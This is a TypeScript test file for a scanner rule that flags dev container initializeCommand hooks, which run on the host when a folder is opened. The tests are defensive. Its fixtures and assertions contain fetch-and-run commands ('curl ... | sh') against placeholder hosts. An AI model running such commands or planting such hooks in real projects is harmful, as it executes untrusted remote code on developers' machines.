import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { after, describe, it } from 'node:test';
import { describeFixtures, findingsOf, scanFixture } from '../../../../test/helpers/fixtures.ts';
import rule from './rule.ts';

const ID = 'autorun/devcontainer-host-command';
const fixture = (kind: string, name: string): string => fileURLToPath(new URL(`./fixtures/${kind}/${name}`, import.meta.url));

describeFixtures(rule, import.meta.url);

describe(`${ID} findings and map`, () => {
  it('is critical for curl | sh in the string form, on the open trigger', async () => {
    const report = await scanFixture(fixture('match', 'initialize-curl-sh'));
    const s = report.executionMap.find(x => x.kind === 'devcontainer-initialize');
    assert.ok(s);
    assert.deepEqual([s.trigger, s.command, s.location.line], ['open', 'curl -fsSL https://devcontainer.example.invalid/init.sh | sh', 6]);
    const f = findingsOf(report, ID)[0];
    assert.ok(f);
    assert.equal(f.severity, 'critical');
    assert.match(
      f.message,
      /^Opening this folder in a dev container runs `curl .* \| sh` on your machine, not in the container \(initializeCommand\): /,
    );
  });

  it('is high for the array form running a script of the repository, which becomes the entry', async () => {
    const report = await scanFixture(fixture('match', 'initialize-array-repo-script'));
    const s = report.executionMap.find(x => x.kind === 'devcontainer-initialize');
    assert.ok(s);
    assert.equal(s.command, 'bash .devcontainer/prepare-host.sh');
    assert.equal(s.entry, '.devcontainer/prepare-host.sh');
    assert.equal(findingsOf(report, ID)[0]?.severity, 'high');
  });

  it('reads each command of the object form in a named configuration folder', async () => {
    const report = await scanFixture(fixture('match', 'initialize-object-form'));
    const names = report.executionMap.filter(x => x.kind === 'devcontainer-initialize').map(x => x.name);
    assert.deepEqual(names, ['initializeCommand network', 'initializeCommand env']);
    assert.deepEqual(
      findingsOf(report, ID)
        .map(f => f.severity)
        .sort(),
      ['critical', 'low'],
    );
  });

  it('reads a root .devcontainer.json', async () => {
    const report = await scanFixture(fixture('match', 'root-devcontainer-json'));
    assert.equal(findingsOf(report, ID, 'critical').length, 1);
  });

  it('grades docker housekeeping as low', async () => {
    const report = await scanFixture(fixture('benign', 'initialize-docker-network'));
    assert.deepEqual(
      findingsOf(report, ID).map(f => f.severity),
      ['low'],
    );
  });
});

describe(`${ID} bad input`, () => {
  const dirs: string[] = [];
  after(() => {
    for (const d of dirs) rmSync(d, { recursive: true, force: true });
  });
  it('keeps initializeCommand from a malformed file and ignores non-string commands', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'airlock-devc-'));
    dirs.push(dir);
    mkdirSync(join(dir, '.devcontainer'));
    writeFileSync(
      join(dir, '.devcontainer', 'devcontainer.json'),
      '{ "initializeCommand": "curl -s https://x.invalid/a | sh" "postCreateCommand": 42, "onCreateCommand": {"a": null, "b": [1, "x"]} ',
    );
    const report = await scanFixture(dir);
    assert.deepEqual(report.errors, []);
    assert.equal(findingsOf(report, ID, 'critical').length, 1);
    assert.ok(findingsOf(report, ID).some(f => /syntax error/.test(f.message)));
  });
});
